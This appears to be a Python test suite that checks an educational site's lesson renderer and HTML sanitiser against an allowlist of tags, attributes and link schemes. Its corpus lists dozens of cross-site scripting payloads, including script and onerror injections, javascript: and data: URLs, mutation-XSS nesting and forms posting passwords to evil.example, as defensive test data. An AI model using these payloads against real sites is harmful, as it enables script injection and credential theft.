"""Whatever an author writes, a lesson's HTML holds only what is on the list."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from course.core.content.links import Targets, resolve_links
from course.core.content.outline import read_outline
from course.core.content.render import render
from course.core.content.sanitise import sanitise
from tests.core.content.mutations import MUTATIONS

TAGS = set(
    (  # noqa: SIM905 - written again on purpose: the test does not trust the list that it tests
        "a audio b blockquote br code dd details div dl dt em figcaption figure h2 h3 hr img li ol p pre section "
        "small span strong summary sub sup table tbody td th thead tr track ul"
    ).split()
)
ATTRIBUTES = set(
    (  # noqa: SIM905
        "href title download src controls preload aria-label aria-hidden open id class alt loading start role "
        "tabindex scope kind srclang label rel"
    ).split()
)
LINK = re.compile(
    r"https?://|mailto:|#|/(?:en|es|fr)/(?:course|quiz|glossary)/|/media/|lesson:|quiz:|term:|media/"
)
NOWHERE = Targets({}, {}, {}, {}, "en")


class Look(HTMLParser):
    """Collects what is not on the list."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"{tag} {name}")
            if name in {"href", "src"} and not LINK.match(value or ""):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data):
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl):
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data):
        self.wrong.append(f"instruction {data}")


def wrong_in(html: str) -> list[str]:
    look = Look()
    look.feed(html)
    look.close()
    return look.wrong


CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="media/a.png" onerror="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](file:///etc/passwd)",
    "[x](../admin)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,x)",
    "![x](media/../../secret.png)",
    '![x" onerror="alert(1)](media/a.png)',
    '[x](https://e.example "a\\" onclick=\\"alert(1)")',
    "x {: onclick='alert(1)' style='position:fixed' id='main' class='skip' }",
    "*x*{: onmouseover=alert(1) style=color:red }",
    "## Head {#head onclick=alert(1) .hero style=x}",
    "[x](https://e.example){: target=_blank rel=opener ping=https://evil.example }",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "/// note | <img src=x onerror=alert(1)>\n\n<script>x</script>\n///",
    "/// podcast | T\n\n0:00 **<b onclick=x>:** <script>alert(1)</script>\n///",
    '/// figure | " onclick="x\n    source: "<script>x</script>"\n\n| a |\n|---|\n| b |\n///',
    "/// note | x\n    attrs: {onclick: x, style: y, id: main}\n\nx\n///",
    "/// html | script\nalert(1)\n///",
    "\x02wzxhzdk:0\x03",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[^<script>]\n\n[^<script>]: x",
    '[^a" onclick=x]\n\n[^a" onclick=x]: x',
]


def lesson(text: str) -> str:
    """Return a text as readers get it, also when the check would refuse it."""
    rendered = render(read_outline("x", text, 1).text, "en").html
    return resolve_links(rendered, "en", NOWHERE)


@pytest.mark.parametrize("text", CORPUS)
def test_hostile_text_becomes_harmless(text):
    assert wrong_in(lesson(text)) == []


@pytest.mark.parametrize("text", MUTATIONS)
def test_markup_that_browsers_read_another_way_becomes_harmless(text):
    clean = sanitise(text)

    assert wrong_in(lesson(text)) == []
    assert wrong_in(resolve_links(clean, "en", NOWHERE)) == []
    assert sanitise(clean) == clean


@pytest.mark.parametrize("inner", CORPUS)
@pytest.mark.parametrize(
    "outer",
    [
        "> {}",
        "- {}",
        "word {} word",
        "**{}**",
        "[{}](https://e.example)",
        "/// note | x\n\n{}\n///",
        "x\n:   {}",
    ],
)
def test_hostile_text_inside_other_text_becomes_harmless(inner, outer):
    assert wrong_in(lesson(outer.format(inner))) == []


def test_a_break_in_the_corpus_would_be_seen():
    assert wrong_in('<p onclick="x">') == ["p onclick"]
    assert wrong_in('<a href="javascript:x">') == ["a href=javascript:x"]
    assert wrong_in("<svg>") == ["svg"]


PIECES = st.one_of(
    st.sampled_from(list("<>\"'&`*_[]()#{}\n|-\x02\x03")),
    st.sampled_from(
        [
            "<a",
            "<img",
            "src=",
            "href=",
            "onerror=",
            "style=",
            "javascript:",
            "lesson:",
            "quiz:",
            "media/a.mp3",
            "https://",
        ]
    ),
    st.sampled_from(
        [
            "<script>",
            "</script>",
            "<svg>",
            "<!--",
            "-->",
            "<style>",
            "&#x3c;",
            "[^1]",
            "[x]:",
            ".{#main}",
            "///",
            "///note",
        ]
    ),
    st.sampled_from(["\n\n", "\n/// note | x\n", ":   ", "- ", "> "]),
    st.text(max_size=5),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_text_gets_anything_else_through(text):
    assert wrong_in(lesson(text)) == []


MARKUP = st.one_of(
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<svg>",
            "<math>",
            "<style>",
            "</style>",
            "<table>",
            "<noscript>",
            "<template>",
            "<title>",
            "<!--",
            ">",
            '"',
            "'",
        ]
    ),
    st.sampled_from(
        ["<a ", "<img ", "<div ", ' href="', ' src="', ' onclick="', ' style="', ' id="', ' alt="', " "]
    ),
    st.sampled_from(
        [
            "<a",
            "href=",
            "lesson:a",
            "javascript:",
            "media/a.png",
            "https://e.example",
            "main",
            "note",
            "&quot;",
            "&lt;",
        ]
    ),
    st.text(max_size=4),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(MARKUP, max_size=25).map("".join))
def test_no_markup_gets_anything_else_through_and_cleaning_is_done_once(markup):
    clean = sanitise(markup)

    assert wrong_in(resolve_links(clean, "en", NOWHERE)) == []
    assert sanitise(clean) == clean


def test_a_tag_that_nobody_knows_is_taken_out_without_a_fault():
    assert sanitise('<a\x97href= id="main">words</a>') == "words"


@pytest.mark.parametrize(
    "markup", ["<a><a></a><table></table></a>", "<a><table><a></table>", "<table><a><table></a>"]
)
def test_markup_that_is_nested_against_the_rules_is_cleaned_until_it_stays(markup):
    clean = sanitise(markup)

    assert sanitise(clean) == clean


@pytest.mark.parametrize("anchor", ["main", "outline", "fn-1", "talk"])
def test_text_cannot_take_an_anchor_of_the_page(anchor):
    html = lesson(f"One {{: #{anchor} }}\n\n- two {{#{anchor}}}\n\n> three\n{{: #{anchor} }}\n")

    assert f'id="{anchor}"' not in html


def test_only_links_to_other_sites_say_who_they_are_not():
    html = lesson("[a](https://e.example) [b](#here) [c](mailto:a@e.example)")

    assert html == (
        '<p id="p1"><a href="https://e.example" rel="noopener noreferrer">a</a> <a href="#here">b</a> '
        '<a href="mailto:a@e.example">c</a></p>'
    )


def test_the_empty_corner_of_a_table_heads_nothing():
    html = lesson("| | One |\n|---|---|\n| a | b |\n")

    assert html.count("<th") == 2  # thead, and the one head with words
